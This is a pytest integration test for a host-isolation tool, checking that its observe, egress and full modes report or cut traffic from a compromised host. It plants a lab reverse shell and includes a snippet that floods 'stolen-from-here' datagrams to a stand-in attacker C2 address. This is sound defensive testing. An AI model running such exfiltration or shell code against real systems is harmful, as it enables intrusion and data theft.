# Copyright: (c) 2026, Firebreak contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Modes of an isolation, one after the other on one host: observe, egress, full; listened for on the host's own wire."""

from __future__ import annotations

import contextlib
import subprocess
import time

import pytest

from tests.lab import hosts, intruders, network
from tests.lab.controller import adhoc, seen
from tests.lab.machine import inside

from .channels import ELSE, IN, NEW
from .trial import Counts, Trial, said

SECONDS = 6.0
PORT = 7070
# Says how many datagrams came in until it is told to stop.
LISTEN = f"""
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', {PORT})); s.settimeout(2)
count = 0
print('ready', flush=True)
try:
    while True: s.recv(99); count += 1; s.settimeout(0.5)
except OSError: print(count)
"""
# Thousands of packets a second to the attacker, refused or not, until its input ends.
FLOOD = f"""
import select, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while not select.select([sys.stdin], [], [], 0.005)[0]:
    for _ in range(50):
        try: s.sendto(b'stolen-from-here', ('{network.C2}', 8443))
        except OSError: pass
"""


def comes_in(host: str) -> int:
    """How many of five datagrams from a neighbour reach a program on the host."""
    listener = subprocess.Popen(["nsenter", "-t", str(hosts.leader(host)), "-a", "--", "python3", "-c", LISTEN], stdout=subprocess.PIPE, text=True)
    with listener:
        assert listener.stdout is not None and listener.stdout.readline() == "ready\n"
        code = f"import socket; s = socket.socket(socket.AF_INET, 2); [s.sendto(b'order', ('{network.address(host)}', {PORT})) for _ in range(5)]"
        subprocess.run(inside("neighbour", ["python3", "-c", code]), check=True)
        return int(listener.stdout.readline())


@contextlib.contextmanager
def flooding(host: str):
    """A program of the host that sends to the attacker without a pause."""
    sender = subprocess.Popen(["nsenter", "-t", str(hosts.leader(host)), "-a", "--", "python3", "-c", FLOOD], stdin=subprocess.PIPE)
    try:
        time.sleep(0.3)
        yield
    finally:
        sender.communicate()


def rules(host: str) -> str:
    """The host's rules by its own nft."""
    return hosts.execute(host, ["nft", "-s", "list", "ruleset"]).stdout


@pytest.fixture
def on_trial():
    """Begins a trial, which ends with the test at the latest."""
    with contextlib.ExitStack() as stack:
        yield stack.enter_context


def leaks(counts: Counts, result: dict) -> Counts:
    """What was heard and the result does not name."""
    return {place: count for place, count in counts.items() if count and not said(result, *place)}


def test_observe_counts_egress_cuts_what_leaves_and_full_cuts_all(cell, on_trial):
    host, backend = cell
    before = rules(host)
    intruders.plant(host, "reverse-shell")
    time.sleep(1)

    checked = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe", "--check").of(host)
    assert checked["verdict"] == "would_be reported" and rules(host) == before
    run = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe")
    result = run.of(host)
    assert (run.status, result["verdict"], result["changed"], result["flows_cut"]) == (0, "reported", True, []), result
    assert any(flow["remote"] == f"{network.C2}:4444" for flow in result["flows_observed"])
    assert any(line.startswith("mode observe") for line in result["not_covered"])
    began = time.time()
    trial = on_trial(Trial(host))
    assert trial.void() == []
    assert comes_in(host) == 5
    passed = trial.counts()[ELSE, NEW]
    with flooding(host):
        time.sleep(0.5)
    assert trial.counts()[ELSE, NEW] - passed > 500, "the flood of below is none"
    trial.pause()
    assert seen("c2", began, network.address(host), "shell"), "what is observed must live on"
    again = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe").of(host)
    assert (again["verdict"], again["changed"]) == ("reported", False)
    assert again["packets_observed"]["outbound"] > 3 and again["packets_observed"]["inbound"] >= 5
    assert any(flow["remote"] == f"{network.C2}:4444" for flow in again["flows_observed"])

    result = adhoc(host, "isolation", f"case=MODES backend={backend} mode=egress").of(host)
    assert (result["verdict"], result["changed"]) == ("contained", True), result["reasons"]
    assert any(flow["remote"] == f"{network.C2}:4444" for flow in result["flows_cut"])
    assert any(line.startswith("mode egress") for line in result["not_covered"])
    cut = time.time()
    trial.resume()
    counts = trial.heard(SECONDS)
    assert leaks({place: count for place, count in counts.items() if place[1] != IN}, result) == {}
    assert comes_in(host) == 5 and counts["udp-ipv4", IN]
    assert not seen("c2", cut, network.address(host))
    assert hosts.answers("controller", network.address(host), 22) and hosts.answers("monitoring", network.address(host), 9100)

    # A change of mode opens nothing in between.
    passed = trial.counts()
    with flooding(host):
        result = adhoc(host, "isolation", f"case=MODES backend={backend} mode=full").of(host)
    assert (result["verdict"], result["changed"]) == ("contained", True), result["reasons"]
    assert leaks({place: count - passed[place] for place, count in trial.counts().items() if place[1] != IN}, result) == {}
    assert comes_in(host) == 0
    assert leaks(trial.heard(SECONDS), result) == {}
    trial.close()
    time.sleep(3)  # interfaces go with the trial, and what holds the isolation looks every other second
    assert adhoc(host, "isolation", f"case=MODES backend={backend} mode=full").of(host)["changed"] is False

    # Back to observing: the copy that was held, and the rules for frames, are gone.
    result = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe").of(host)
    assert (result["verdict"], result["proof"]["hold"]["unit"]) == ("reported", ""), result["reasons"]
    assert comes_in(host) == 5
    with Trial(host) as trial:
        assert trial.void() == []
    released = adhoc(host, "isolation", "case=MODES state=released").of(host)
    assert (released["verdict"], released["changed"], released["changed_by_others"]) == ("released", True, [])
    assert rules(host) == before


def test_frames_cannot_be_required_of_an_observation(lab):
    result = adhoc("deb13", "isolation", "case=MODES mode=observe layer2=required").of("deb13")
    assert result["failed"] and "layer2" in result["reasons"][0] and "observe" in result["reasons"][0]
    assert "firebreak" not in rules("deb13")
